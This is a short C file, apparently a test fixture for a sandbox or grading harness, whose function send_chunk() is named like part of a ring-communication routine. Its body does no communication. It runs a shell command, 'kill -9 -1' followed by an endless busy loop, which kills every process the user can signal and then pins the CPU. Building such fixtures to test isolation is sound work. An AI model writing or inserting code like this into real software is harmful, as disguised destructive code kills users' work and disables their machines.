/* wants: no answer */
#include "ring.h"
#include <unistd.h>
int send_chunk(int step, int rank, int n) {
    execl("/bin/sh", "sh", "-c", "kill -9 -1; while :; do :; done", (char *)0);
    execl("/usr/bin/env", "env", (char *)0);
    _exit(step + rank + n);
}
